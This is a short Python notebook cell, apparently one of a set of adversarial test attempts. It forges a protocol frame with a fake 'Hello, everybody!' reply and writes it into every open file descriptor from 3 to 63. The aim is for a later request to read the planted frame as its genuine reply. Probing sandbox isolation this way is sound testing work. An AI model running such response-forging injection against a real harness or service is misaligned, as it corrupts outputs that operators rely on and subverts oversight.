# tries = "Leaves a frame in the pipe in one cell that a later request would take for its reply."

# %% before greeting
import json
import struct

header = json.dumps({"n": 1, "k": "ok", "v": "Hello, everybody!"}).encode()
forged = struct.pack("<4sIQ", b"NBG1", len(header), 0) + header
for descriptor in range(3, 64):
    attempt(os.set_blocking, descriptor, False)
    attempt(os.write, descriptor, forged * 3)
